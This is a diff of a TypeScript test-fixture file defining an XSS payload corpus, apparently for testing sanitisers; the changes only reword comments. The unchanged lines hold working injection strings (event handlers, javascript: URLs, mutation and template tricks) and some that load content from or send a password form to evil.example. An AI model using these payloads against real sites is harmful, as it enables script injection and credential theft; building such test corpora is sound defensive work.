@@ -1,6 +1,7 @@
 /**
- * Texts that become code where they are written into a page, an attribute, a script, a style or a template as they are. Each
- * calls `xss()` or asks evil.example for something; as text they do neither.
+ * Texts that become code if they are inserted unescaped into a page, an attribute, a script, a
+ * style, or a template. Each calls `xss()` or requests something from evil.example. As text they do
+ * neither.
  */
 export const xssCorpus: readonly string[] = [
   // Elements with scripts.
@@ -27,7 +28,7 @@ export const xssCorpus: readonly string[] = [
   "<details open ontoggle=xss()>",
   "<video><source onerror=xss()></video>",
   '" autofocus onfocus="xss()" x="',
-  // What a parser reads in another way the second time.
+  // Text that parses differently the second time.
   "<math><mtext><style><img src=x onerror=xss()></style></mtext></math>",
   '<noscript><p title="</noscript><img src=x onerror=xss()>">',
   "<template><script>xss()</script></template>",
@@ -41,7 +42,7 @@ export const xssCorpus: readonly string[] = [
   '<link rel=stylesheet href="https://evil.example/x.css">',
   '<meta http-equiv=refresh content="0;url=https://evil.example/">',
   '<form action="https://evil.example/"><input name=password>',
-  // Addresses.
+  // URLs.
   '<a href="javascript:xss()">here</a>',
   "javascript:xss()",
   "JaVa\tScRiPt:xss()//",
@@ -57,7 +58,7 @@ export const xssCorpus: readonly string[] = [
   `\${xss()}`,
   "{{7*7}}{% assign x = 1 %}",
   "<%= xss() %>#{xss()}",
-  // JSON, scripts and comments that end too early.
+  // JSON, scripts, and comments that end too early.
   '"}]);xss();//',
   '\\"}]);xss();//',
   '"])</script><script>xss()</script>',
@@ -65,7 +66,7 @@ export const xssCorpus: readonly string[] = [
   "\u2028xss()\u2029;xss();//",
   // Markdown.
   "[here](javascript:xss()) ![x](https://evil.example/md.png)",
-  // What can't be seen, or is written in another way.
+  // Invisible or differently encoded text.
   "\u202e>tpircs/<)(ssx>tpircs<\u202c",
   "\u0000<script\u0000>xss()</script>",
   "\ud800<img src=x onerror=xss()>",
@@ -73,7 +74,7 @@ export const xssCorpus: readonly string[] = [
   "+ADw-script+AD4-xss()+ADw-/script+AD4-",
   "%3Cscript%3Exss()%3C/script%3E",
   "&lt;script&gt;xss()&lt;/script&gt;&#x3c;img src=x onerror=xss()>",
-  // Names that objects have already.
+  // Names that objects already have.
   "__proto__",
   "constructor",
   // Long ones.
